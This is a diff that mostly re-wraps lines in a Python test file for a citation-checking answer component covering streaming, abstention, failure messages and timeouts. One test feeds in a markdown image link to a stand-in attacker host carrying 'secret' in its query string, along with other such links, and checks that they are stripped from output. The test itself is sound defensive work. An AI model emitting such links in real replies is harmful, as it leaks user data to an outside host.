@@ -29,7 +29,9 @@ def speaker(*replies: Any, **options: Any) -> tuple[ModelSpeaker, ScriptedChatMo
     return ModelSpeaker(model, embed, load_prompt("answer")), model.chat
 
 
-def say(reply: str | Sequence[str | Exception], turns: Sequence[Turn] = (), **options: Any) -> list[Utterance]:
+def say(
+    reply: str | Sequence[str | Exception], turns: Sequence[Turn] = (), **options: Any
+) -> list[Utterance]:
     return list(speaker(reply, **options)[0].speak(found(), turns))
 
 
@@ -37,7 +39,11 @@ def answered() -> Found:
     """Evidence whose sentence about training plainly answers."""
     one = evidence()[0]
     chunk = one.passage.chunks[0]
-    at = next(n for n, sentence in enumerate(chunk.sentences) if "trained" in sentence.span.of(chunk.document.text))
+    at = next(
+        n
+        for n, sentence in enumerate(chunk.sentences)
+        if "trained" in sentence.span.of(chunk.document.text)
+    )
     features = Features(*[0.0] * len(fields(Features)))
     candidate = Candidate(chunk, at, features, 0.9)
     ask = Ask("How long are they trained?")
@@ -46,7 +52,15 @@ def answered() -> Found:
 
 
 def test_it_streams_and_ends_with_citations_cut_from_the_source() -> None:
-    said = say(["They are trained ", "for three months [", "1", "].", " They sit in about 40 loops a year [1]."])
+    said = say(
+        [
+            "They are trained ",
+            "for three months [",
+            "1",
+            "].",
+            " They sit in about 40 loops a year [1].",
+        ]
+    )
     assert [utterance.text for utterance in said[:4]] == [
         "They are trained ",
         "They are trained for three months ",
@@ -70,7 +84,9 @@ def test_half_a_marker_is_never_shown(cut: int) -> None:
 
 def test_the_model_sees_evidence_question_and_conversation_and_the_prompt_is_kept() -> None:
     talker, model = speaker("They are trained for three months [1].")
-    *_, last = talker.speak(found("How long?", "How long is the training?"), [Turn("Who trains?", "Falk [1].")])
+    *_, last = talker.speak(
+        found("How long?", "How long is the training?"), [Turn("Who trains?", "Falk [1].")]
+    )
     sent = [(message.type, message.text) for message in model.asked[0]]
     assert [kind for kind, _ in sent] == ["system", "human"]
     assert [text for _, text in sent] == [text for _, text in last.prompt]
@@ -79,20 +95,28 @@ def test_the_model_sees_evidence_question_and_conversation_and_the_prompt_is_kep
 
 
 def test_markers_that_name_no_evidence_are_dropped() -> None:
-    assert say("They are trained for three months [7][1].")[-1].text == "They are trained for three months[1]."
+    assert (
+        say("They are trained for three months [7][1].")[-1].text
+        == "They are trained for three months[1]."
+    )
 
 
-@pytest.mark.parametrize("reply", [NOT_TOLD, f'"{NOT_TOLD}"', f"**{NOT_TOLD}** [1]\n", "The sources don't say"])
+@pytest.mark.parametrize(
+    "reply", [NOT_TOLD, f'"{NOT_TOLD}"', f"**{NOT_TOLD}** [1]\n", "The sources don't say"]
+)
 def test_the_fixed_phrase_alone_is_an_abstention(reply: str) -> None:
     last = say(reply)[-1]
     assert (last.text, last.abstained, last.claims) == (NOT_TOLD, True, ())
 
 
-def test_when_nothing_is_supported_the_reply_is_shown_with_its_marks_and_counts_as_an_abstention() -> None:
+def test_when_nothing_is_supported_the_reply_is_shown_with_its_marks_and_counts_as_an_abstention() -> (
+    None
+):
     last = say("Wages are 90,000 crowns a year [1]. Every warden drives a company car [2].")[-1]
     assert last.abstained
     assert last.text == (
-        f"Wages are 90,000 crowns a year [1]. {NOT_IN_SOURCES} Every warden drives a company car [2]. {NOT_IN_SOURCES}"
+        f"Wages are 90,000 crowns a year [1]. {NOT_IN_SOURCES} Every warden drives a company car "
+        f"[2]. {NOT_IN_SOURCES}"
         f"\n\n{NOT_TOLD}"
     )
     assert [claim.support for claim in last.claims] == [Support.UNSUPPORTED] * 2
@@ -101,7 +125,10 @@ def test_when_nothing_is_supported_the_reply_is_shown_with_its_marks_and_counts_
 
 def test_what_is_not_in_the_sources_says_so_beside_what_is() -> None:
     last = say("They are trained for three months [1]. Wages are 90,000 crowns a year [1].")[-1]
-    assert last.text == f"They are trained for three months [1]. Wages are 90,000 crowns a year [1]. {NOT_IN_SOURCES}"
+    assert (
+        last.text == "They are trained for three months [1]. Wages are 90,000 crowns a year [1]. "
+        f"{NOT_IN_SOURCES}"
+    )
     assert not last.abstained
 
 
@@ -113,11 +140,19 @@ def test_without_evidence_no_model_is_asked() -> None:
 
 
 FAILURES: list[tuple[Exception, str, str]] = [
-    (langchain_errors.ModelAuthenticationError("key sk-secret"), "asks for a key", "ROLECALL_API_KEY"),
+    (
+        langchain_errors.ModelAuthenticationError("key sk-secret"),
+        "asks for a key",
+        "ROLECALL_API_KEY",
+    ),
     (langchain_errors.ModelNotFoundError("sk-secret"), "no model of that name", "rolecall models"),
     (langchain_errors.ModelConnectionError("sk-secret"), "cannot be reached", "ROLECALL_BASE_URL"),
     (langchain_errors.ModelTimeoutError("sk-secret"), "took too long", "--model quotes"),
-    (langchain_errors.ContextOverflowError("sk-secret"), "too little room", "ROLECALL_CONTEXT_WINDOW"),
+    (
+        langchain_errors.ContextOverflowError("sk-secret"),
+        "too little room",
+        "ROLECALL_CONTEXT_WINDOW",
+    ),
     (langchain_errors.ModelRateLimitError("sk-secret"), "asked too often", "--model quotes"),
     (langchain_errors.ModelRefusalError("sk-secret"), "declined", "--model quotes"),
     (RuntimeError("sk-secret"), "failed (RuntimeError)", "--model quotes"),
@@ -140,7 +175,9 @@ def test_a_failure_names_model_place_cause_and_remedy_but_no_key_and_quotes_answ
 
 
 def test_a_refused_key_is_not_in_the_logged_cause_either(caplog: pytest.LogCaptureFixture) -> None:
-    failure = model_failure(langchain_errors.ModelAuthenticationError("Wrong key: sk-secret"), opened(), midway=False)
+    failure = model_failure(
+        langchain_errors.ModelAuthenticationError("Wrong key: sk-secret"), opened(), midway=False
+    )
     assert failure.__cause__ is None
     assert failure.__suppress_context__
     say([langchain_errors.ModelAuthenticationError("Wrong key: sk-secret")])
@@ -148,13 +185,19 @@ def test_a_refused_key_is_not_in_the_logged_cause_either(caplog: pytest.LogCaptu
 
 
 def test_what_was_said_before_a_stream_broke_is_kept_checked_and_quotes_answer_beneath() -> None:
-    talker, _ = speaker(["The night baker works in Bergen [2]. Wages are 9", ConnectionResetError("gone")])
+    talker, _ = speaker(
+        ["The night baker works in Bergen [2]. Wages are 9", ConnectionResetError("gone")]
+    )
     said = list(talker.speak(answered(), []))
     assert said[0].text.startswith("The night baker works in Bergen [2].")
     last = said[-1]
     assert "stopped midway" in last.notice
-    assert last.text.startswith(f"The night baker works in Bergen [2]. Wages are 9 {NOT_IN_SOURCES}")
-    assert last.text.index("openai:rye broke off") < last.text.index("They are trained for three months")
+    assert last.text.startswith(
+        f"The night baker works in Bergen [2]. Wages are 9 {NOT_IN_SOURCES}"
+    )
+    assert last.text.index("openai:rye broke off") < last.text.index(
+        "They are trained for three months"
+    )
     quoted = [last.citations[index].quote for claim in last.claims for index in claim.citations]
     assert [quote.split(" ")[0] for quote in quoted] == ["The", "They"]
     assert not last.abstained
@@ -184,9 +227,14 @@ def test_a_reply_in_another_format_is_named_and_quotes_answer(reply: str, form: 
 
 @pytest.mark.parametrize(
     ("reply", "shown"),
-    [(NOT_TOLD, ""), ("The evidence does not state that [1].", "The evidence does not state that [1].")],
+    [
+        (NOT_TOLD, ""),
+        ("The evidence does not state that [1].", "The evidence does not state that [1]."),
+    ],
 )
-def test_where_a_model_finds_no_answer_that_plainly_stands_there_quotes_give_it_beneath(reply: str, shown: str) -> None:
+def test_where_a_model_finds_no_answer_that_plainly_stands_there_quotes_give_it_beneath(
+    reply: str, shown: str
+) -> None:
     *_, last = speaker(reply)[0].speak(answered(), [])
     assert last.text.removeprefix(shown).lstrip().startswith("openai:rye found no answer.")
     assert "They are trained for three months" in last.text
@@ -196,12 +244,19 @@ def test_where_a_model_finds_no_answer_that_plainly_stands_there_quotes_give_it_
 def test_when_nothing_is_supported_what_is_nearest_is_quoted() -> None:
     *_, last = speaker("Wages are 90,000 crowns a year [1].")[0].speak(answered(), [])
     marked = f"Wages are 90,000 crowns a year [1]. {NOT_IN_SOURCES}"
-    assert last.abstained and last.text.startswith(f"{marked}\n\nThe sources don't say what openai:rye said.")
+    assert last.abstained and last.text.startswith(
+        f"{marked}\n\nThe sources don't say what openai:rye said."
+    )
     assert "They are trained for three months" in last.text
 
 
 @pytest.mark.parametrize(
-    "reply", ["Can you rephrase that for a beginner?", "I'd ask about the pay in the first interview.", "Hello!"]
+    "reply",
+    [
+        "Can you rephrase that for a beginner?",
+        "I'd ask about the pay in the first interview.",
+        "Hello!",
+    ],
 )
 def test_a_reply_that_states_nothing_is_shown_without_a_mark(reply: str) -> None:
     last = say(reply)[-1]
@@ -217,11 +272,15 @@ def test_an_honest_absence_is_shown_in_its_own_words_as_an_abstention(reply: str
 
 
 def test_a_reply_in_another_language_is_shown_and_checked_by_what_can_be() -> None:
-    last = say("Los catadores se forman durante tres meses y participan en unas 40 rondas al año [1].")[-1]
+    last = say(
+        "Los catadores se forman durante tres meses y participan en unas 40 rondas al año [1]."
+    )[-1]
     assert last.text.startswith("Los catadores") and not last.abstained
     assert [claim.support for claim in last.claims] == [Support.WEAK]
     assert "language" in last.notice
-    last = say("Los catadores se forman durante 90 meses y participan en muchas rondas al año [1].")[-1]
+    last = say(
+        "Los catadores se forman durante 90 meses y participan en muchas rondas al año [1]."
+    )[-1]
     assert [claim.support for claim in last.claims] == [Support.UNSUPPORTED]
 
 
@@ -237,7 +296,10 @@ def test_a_reply_that_goes_in_circles_is_stopped_and_kept_up_to_there() -> None:
 
 
 def test_a_reply_that_was_cut_off_says_so() -> None:
-    assert "longest reply" in say("They are trained for three months [1]. And", finish="length")[-1].notice
+    assert (
+        "longest reply"
+        in say("They are trained for three months [1]. And", finish="length")[-1].notice
+    )
 
 
 def test_a_stream_that_ends_without_saying_so_is_one_that_broke() -> None:
@@ -248,13 +310,21 @@ def test_a_stream_that_ends_without_saying_so_is_one_that_broke() -> None:
 
 def test_a_slow_first_word_and_a_pause_are_told_and_the_reader_need_not_wait() -> None:
     hold = Event()
-    assert "said nothing for 0.1 s" in say([Pause(hold), "They "], first_token_timeout=0.1)[-1].notice
-    last = say(["They are trained for three months [1].", Pause(hold), " And"], stall_timeout=0.1)[-1]
-    assert "stopped midway" in last.notice and last.text.startswith("They are trained for three months [1].")
+    assert (
+        "said nothing for 0.1 s" in say([Pause(hold), "They "], first_token_timeout=0.1)[-1].notice
+    )
+    last = say(["They are trained for three months [1].", Pause(hold), " And"], stall_timeout=0.1)[
+        -1
+    ]
+    assert "stopped midway" in last.notice and last.text.startswith(
+        "They are trained for three months [1]."
+    )
     hold.set()
 
 
-def test_a_passing_failure_is_tried_again_and_a_lasting_one_is_not(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_passing_failure_is_tried_again_and_a_lasting_one_is_not(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setattr("assistant.models.stream.LONGEST_PAUSE", 0.0)
     busy = langchain_errors.ModelRateLimitError("slow down")
     talker, model = speaker([busy], [busy], "They are trained for three months [1].", retries=2)
@@ -268,7 +338,8 @@ def test_a_passing_failure_is_tried_again_and_a_lasting_one_is_not(monkeypatch: 
 def test_thoughts_links_and_images_are_not_shown() -> None:
     reply = (
         "<think>The pay is [1] secret.</think>They are trained for three months [1]. "
-        "![x](http://evil.example/?q=secret) See [the page](http://evil.example) or https://evil.example/a."
+        "![x](http://evil.example/?q=secret) See [the page](http://evil.example) or "
+        "https://evil.example/a."
     )
     for utterance in say(list(reply)):
         assert "evil" not in utterance.text and "secret" not in utterance.text
@@ -279,14 +350,18 @@ def test_what_does_not_fit_is_left_out_with_notice() -> None:
     turns = [Turn("Who trains?", "Falk. " * 400)]
     last = say("They are trained for three months [1].", turns, window=1800)[-1]
     assert "latest part" in last.notice
-    *_, last = speaker("They are trained for three months [1].", window=1200)[0].speak(found("long " * 300), [])
+    *_, last = speaker("They are trained for three months [1].", window=1200)[0].speak(
+        found("long " * 300), []
+    )
     assert "shortened" in last.notice
     assert "too little room" in say("They [1].", window=512)[-1].notice
 
 
 def test_stopping_midway_closes_the_models_stream() -> None:
     hold = Event()
-    talker, model = speaker(["They ", "are ", Pause(hold), AssertionError("read on after the stop")])
+    talker, model = speaker(
+        ["They ", "are ", Pause(hold), AssertionError("read on after the stop")]
+    )
     stream = talker.speak(found(), [])
     assert next(stream).text == "They "
     stream.close()
